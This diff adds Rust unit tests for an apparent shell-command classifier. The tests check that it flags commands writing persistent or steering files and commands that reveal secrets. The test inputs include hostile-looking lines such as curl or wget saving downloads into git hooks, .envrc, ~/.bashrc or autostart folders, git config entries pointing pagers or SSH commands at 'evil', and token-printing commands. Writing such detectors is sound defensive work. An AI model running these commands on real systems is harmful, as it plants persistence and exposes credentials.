@@ -145,3 +145,83 @@ fn every_host_of_a_call_counts() {
         assert!(found(command).effects.untrusted.len() >= 2, "{command}");
     }
 }
+
+/// What a command would leave that acts later, where its options, settings or subcommands say so.
+#[test]
+fn what_is_written_by_options_and_settings_acts_later() {
+    let left = |command: &str| {
+        let around = Surroundings { cwd: Some("/w".to_owned()), ..Surroundings::default() };
+        let effects = classify(&CommandLine::parse(command).unwrap(), &around).effects;
+        !effects.persistence.is_empty() || !effects.steering.is_empty() || !effects.tampering.is_empty()
+    };
+    for command in [
+        "curl -o .envrc https://h.example/x",
+        "curl -so.envrc https://h.example/x",
+        "curl --output=.git/hooks/pre-push https://h.example/x",
+        "curl --dump-header ~/.bashrc https://h.example/x",
+        "wget -O .mcp.json https://h.example/x",
+        "wget -P .git/hooks https://h.example/pre-push",
+        "wget --directory-prefix=/root/.config/autostart https://h.example/x",
+        "wget --directory-pref=/root/.config/autostart https://h.example/x",
+        "ffmpeg -i a.mp4 -out .vscode/tasks.json",
+        "openssl enc -d -in x -out .envrc",
+        "git checkout evil -- .envrc",
+        "git -C . checkout evil -- .envrc",
+        "git -c a.b=c restore --source=evil .git/hooks/x .envrc",
+        "git --git-dir .git --work-tree . checkout evil .mcp.json",
+        "git config core.pager evil",
+        "git config set --comment user.name core.pager evil",
+        "git config --type path core.hooksPath x",
+        "git config set --value x core.sshCommand evil",
+        "git config merge.x.driver evil",
+        "git config difftool.x.cmd evil",
+        "git config --edit",
+        "git config -e",
+        "direnv allow",
+        "pre-commit install",
+        "husky",
+        "mise trust",
+        "gh alias set x '!evil'",
+        "npm config set script-shell ./x",
+        "systemctl --user enable x",
+    ] {
+        assert!(left(command), "{command}");
+    }
+    for command in [
+        "curl -o page.html https://h.example/x",
+        "curl -sSL https://h.example/x",
+        "wget -O out.tgz https://h.example/x",
+        "tar -xzf a.tgz --strip-components=1",
+        "git checkout main",
+        "git -C sub checkout -b x",
+        "git config user.name x",
+        "git config merge.conflictstyle zdiff3",
+        "git config merge.ff only",
+        "git config remote.origin.fetch '+refs/heads/*:refs/remotes/origin/*'",
+        "git config --get core.hooksPath",
+        "git config submodule.recurse true",
+        "npm run link",
+        "systemctl status enable",
+        "gh alias list",
+        "pre-commit run",
+    ] {
+        assert!(!left(command), "{command}");
+    }
+}
+
+/// Calls that show what is secret by their purpose.
+#[test]
+fn what_is_told_by_purpose_is_a_secret() {
+    let shows = |command: &str| {
+        let found = classify(&CommandLine::parse(command).unwrap(), &Surroundings::default());
+        !found.effects.secrets.is_empty()
+    };
+    for command in
+        ["gh auth token", "gh auth status -t", "gh auth status --show-token", "oc whoami -t", "npm config list -l"]
+    {
+        assert!(shows(command), "{command}");
+    }
+    for command in ["gh auth status", "oc whoami", "gh pr list", "npm config get registry"] {
+        assert!(!shows(command), "{command}");
+    }
+}
